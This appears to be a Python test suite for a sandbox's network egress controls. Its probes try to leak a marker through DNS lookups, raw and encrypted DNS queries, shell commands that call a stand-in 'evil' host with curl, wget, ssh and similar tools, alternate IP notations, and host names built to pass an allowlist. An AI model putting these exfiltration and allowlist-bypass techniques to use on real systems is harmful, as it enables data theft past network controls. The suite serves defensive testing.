# Out of the sandbox by names: what a resolver is asked is data that leaves, and a name that looks allowed is not.

from tries.network import brief, denied, evil, network

DNS = r'''
def encoded(name):
    return b"".join(bytes([len(l)]) + l for l in (name if isinstance(name, bytes) else name.encode("latin-1")).split(b".") if l) + b"\0"

def query(name, kind=1, flags=0x0100, count=1, more=b"", additional=0):
    return struct.pack("!HHHHHH", 0xBA3A, flags, count, 0, 0, additional) + encoded(name) + struct.pack("!HH", kind, 1) + more

def ask(packet, *servers):
    for server in servers or ("84.200.69.80", "8.8.8.8", "127.0.0.53", "127.0.0.1", W.foe, "2001:4860:4860::8888"):
        datagram(server, 53, packet, socket.AF_INET6 if ":" in server else socket.AF_INET, 0.15)

def ask_by_stream(server, packet, port=53):
    attempted("stream " + server, lambda: spoken(dialled(server, port), struct.pack("!H", len(packet)) + packet, 0.5))

def look_up(name):
    attempted(f"looking up {name!a}", lambda: len(socket.getaddrinfo(name, 80)))
'''


def asked(world, _):
    """Questions and requests that have the attempt's short mark in them."""
    def holds(row):
        return world.alias in str(row.get("name", "")).lower() or world.alias in str(row.get("host", "")).lower() or world.alias in str(row.get("sni", "")).lower()
    return [brief(row) for row in world.net.record(world.since) if holds(row)]


def names(name, number, tries, probe, **more):
    network(name, number, tries, DNS + probe if not probe.startswith("#!") else probe, also=asked, **more)


names("dns-by-the-library", 51, "looks names up as every program does; they carry data",
      probe="""
for n in range(5): look_up(f"x{n}.{W.evil}")
look_up(W.alias + ".allowed.example"); look_up(MARK.hex() + ".example"); look_up(base64.b32encode(MARK).decode().rstrip("=").lower() + ".evil.example")
attempted("reverse", lambda: socket.gethostbyaddr(W.foe)); attempted("by name", lambda: socket.gethostbyname_ex("y." + W.evil))
""", allow=("allowed.example",))

names("dns-by-programs", 51, "looks names up by getent, ping, curl, node, git, ssh",
      probe="""#!/bin/sh
for words in "getent ahosts 1.$evil" "getent hosts 2.$evil" "ping -c1 -W1 3.$evil" "curl -sm2 http://4.$evil/" "wget -qO- -T1 -t1 http://5.$evil/" \
    "node -e require('dns').resolveTxt('6.$evil',()=>{})" "node -e require('dns').lookup('7.$evil',()=>{})" "git ls-remote git://8.$evil/x" \
    "ssh -oConnectTimeout=1 -oBatchMode=yes 9.$evil true" "host -W1 10.$evil" "nslookup -timeout=1 11.$evil" "dig +time=1 +tries=1 txt 12.$evil"; do
    timeout -s KILL 4 $words 2>&1
done
exit 0
""")

names("dns-by-hand", 51, "sends questions of every type to resolvers near and far, in whatever case",
      probe="""
for kind in (1, 28, 16, 10, 255, 15, 2, 6, 33, 35, 64, 65, 99, 252, 257, 65280): ask(query(f"t{kind}.{W.evil}", kind), "84.200.69.80")
ask(query("".join(c.upper() if n % 2 else c for n, c in enumerate(W.evil))))
ask(query(W.evil, 16)); ask(query(W.mark + ".allowed.example"))
""", allow=("allowed.example",))

names("dns-odd-packets", 51, "hides data in odd packets: options, additional records, updates, responses, several questions, broken names",
      probe="""
opt = b"\\0" + struct.pack("!HHIH", 41, 1232, 0, len(MARK) + 4) + struct.pack("!HH", 65001, len(MARK)) + MARK
record = encoded(W.evil) + struct.pack("!HHIH", 16, 1, 0, len(MARK) + 1) + bytes([len(MARK)]) + MARK
packets = [query("allowed.example", more=opt, additional=1), query("allowed.example", more=record, additional=1), query("allowed.example", flags=0x2800, more=record),
           query("allowed.example", flags=0x8180), query("allowed.example", count=2, more=encoded(W.evil) + b"\\0\\1\\0\\1"), query("allowed.example") + MARK,
           query(b"allowed.example")[:-4] + MARK, MARK, b"", MARK * 40, query(b"a\\0" + MARK + b".example"), query(b"\\xff" + MARK + b".allowed.example"),
           struct.pack("!HHHHHH", 1, 0x100, 1, 0, 0, 0) + b"\\xc0\\x0c" + MARK, struct.pack("!HHHHHH", 1, 0x100, 1, 0, 0, 0) + b"\\x3f" + MARK]
for packet in packets: ask(packet, "84.200.69.80", W.foe)
""", allow=("allowed.example",))

names("dns-by-stream", 51, "asks over TCP, over TLS and over HTTPS, of resolvers that everybody knows",
      probe="""
for server in ("84.200.69.80", "8.8.8.8", "1.1.1.1", "2001:4860:4860::8888", W.foe): ask_by_stream(server, query(W.evil))
for host in ("8.8.8.8", "1.1.1.1", "dns.google", "cloudflare-dns.com", "dns.quad9.net"):
    attempted("tls " + host, lambda: spoken(secured(dialled(host, 853), host), query(W.evil), 0.5))
    packet = query(W.evil)
    attempted("https " + host, lambda: spoken(secured(dialled(host, 443), host), request(host, "/dns-query", f"Content-Type: application/dns-message\\r\\nContent-Length: {len(packet)}\\r\\n", "POST") + packet))
    attempted("json " + host, lambda: spoken(secured(through_connect(host, 443), host), request(host, "/resolve?name=" + W.evil)))
""", record=(denied(443, host=lambda w: "dns.google"),))

names("dns-in-pieces", 51, "a file in five hundred questions",
      probe="""
wire = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
for n in range(500): attempted("piece", lambda: wire.sendto(query(f"{n}.{W.alias}.pieces.example"), ("84.200.69.80", 53)))
for n in range(20): look_up(f"{n}.{W.alias}.more-pieces.example")
""")

names("denied-and-never-resolved", 52, "asks the proxy for hosts that are not allowed: none of their names may come to a resolver",
      probe="""
ways("a." + W.evil, 443); ways("b." + W.evil, 80, request("b." + W.evil)); ways("c." + W.evil, 22)
attempted("URL", lambda: spoken(dialled(*PROXY), request("d." + W.evil, f"http://d.{W.evil}/")))
attempted("URL with a port", lambda: spoken(dialled(*PROXY), request("e." + W.evil, f"http://e.{W.evil}:8080/")))
attempted("WebSocket", lambda: spoken(dialled(*PROXY), request("f." + W.evil, f"ws://f.{W.evil}/")))
attempted("TLS", lambda: spoken(secured(dialled("g." + W.evil, 443), "g." + W.evil), b"x"))
ways(W.evil, 443)
""", allow=("allowed.example",), record=(denied(443, host=evil),))

names("numbers-for-hosts", 54, "writes an address in every notation that some program understands",
      probe="""
a, b, c, d = (int(part) for part in W.foe.split("."))
number = (a << 24) + (b << 16) + (c << 8) + d
forms = [str(number), hex(number), oct(number).replace("o", ""), f"{a}.{b}.{(c << 8) + d}", f"{a}.{(b << 16) + (c << 8) + d}", f"{a:#x}.{b:#x}.{c:#x}.{d:#x}", f"0{a:o}.0{b:o}.0{c:o}.0{d:o}",
         f"{a:#x}.{b}.0{c:o}.{d}", W.foe + ".", f"0000{a:o}.{b}.{c}.{d}", f"::ffff:{W.foe}", f"::ffff:{a:x}{b:02x}:{c:x}{d:02x}", f"0:0:0:0:0:ffff:{W.foe}", f"::{W.foe}", f"64:ff9b::{W.foe}",
         f"{a + 256}.{b}.{c}.{d}", f"{number + (1 << 32)}", W.foe6 + "%lo", W.foe.replace(".", "\\u3002"), "".join(chr(0xFF10 + int(x)) if x.isdigit() else x for x in W.foe), W.foe + "%00", " " + W.foe, W.foe + "/32",
         W.foe + ".nip.io", W.foe.replace(".", "-") + ".sslip.io"]
for form in forms:
    ways(form, 7000)
    attempted("URL", lambda: spoken(dialled(*PROXY), request(form, f"http://{'[' + form + ']' if ':' in form else form}:80/").decode("latin-1").encode("utf-8")))
""", allow=("allowed.example",))

names("names-that-look-allowed", 54, "names that begin, end or look like an allowed one, with odd bytes between",
      probe="""
allowed = "allowed.example"
forms = [f"{W.alias}{allowed}", f"{W.alias}-{allowed}", f"{W.alias}.{allowed}", f"{allowed}.{W.alias}.example", f"{allowed}{W.alias}.example", f"{allowed}.{W.alias}.com",
         f"{allowed}\\0.{W.alias}.example", f"{allowed}%00.{W.alias}.example", f"{allowed}%2e{W.alias}.example", f"{allowed}@{W.alias}.example", f"{allowed}:80@{W.alias}.example",
         f"{allowed}#.{W.alias}.example", f"{allowed}/.{W.alias}.example", f"{allowed}?.{W.alias}.example", f"{allowed}\\\\.{W.alias}.example", f"{allowed} .{W.alias}.example",
         f"{allowed}\\t.{W.alias}.example", f"{allowed}\\r\\n.{W.alias}.example", f"{allowed},{W.alias}.example", f"{allowed};{W.alias}.example", f"{allowed}..{W.alias}.example",
         f".{W.alias}.{allowed}", f"-{W.alias}.{allowed}", f"_{W.alias}.{allowed}", f"xn--{W.alias}-9cf.example", f"*.{W.alias}.example", f"{W.alias}.{allowed}.", f"{W.alias}.ALLOWED.EXAMPLE",
         f"{W.alias}." + "a." * 120 + "example", f"{W.alias}" + "a" * 70 + ".example"]
for n, form in enumerate(forms):
    if "\\0" in form:  # which Python's own look-up would cut short
        for way in (through_connect, through_socks): attempted(way.__name__, lambda: spoken(way(form, 80), request(allowed, f"/{n}/{W.mark}")))
    else:
        ways(form, 80, request(allowed, f"/{n}/{W.mark}"))
    if form.isprintable() and not set(form) & set("/?#"): attempted("URL", lambda: spoken(dialled(*PROXY), request(allowed, f"http://{form}/{n}/{W.mark}")))
for form in (f"{allowed}\\0.{W.alias}.example", f"{W.alias}.{allowed}"):
    attempted("SNI", lambda: spoken(secured(dialled(allowed, 443), form), request(allowed, "/" + W.mark)))
""", allow=("allowed.example", "allowed.example:80"))

names("wildcards", 54, "names that a careless wildcard lets through",
      egress="{default: deny, hosts: [{host: '*.allowed.example', ports: [80, 443]}]}",
      probe="""
for form in (f"{W.alias}allowed.example", f"{W.alias}-allowed.example", f"{W.alias}.xallowed.example", f"x.allowed.example.{W.alias}.example", f"x.allowed.example{W.alias}.example",
             f"x.{W.alias}.example", f"x.allowed.example.{W.alias}.com", f"x.allowed.example@{W.alias}.example", f"x.allowed-example.{W.alias}.example"):
    ways(form, 80, request(form, "/" + W.mark))
""")

names("very-long-names", "own", "names, labels, hosts and targets far beyond every limit",
      probe="""
for size in (64, 254, 256, 1024, 8192, 70000, 1 << 20):
    form = (W.alias + "." + "a" * 50 + ".") * (size // 63) + W.alias + ".example"
    attempted("CONNECT", lambda: through_connect(form, 443)); attempted("URL", lambda: spoken(dialled(*PROXY), request(form[:200], f"http://{form}/")))
    attempted("Host", lambda: spoken(dialled("allowed.example", 80), request(form, "/" + W.mark)))
    if size < 256: look_up(form); ask(query(form), "84.200.69.80"); attempted("SOCKS", lambda: through_socks(form[:255], 443))
""", allow=("allowed.example:80",))
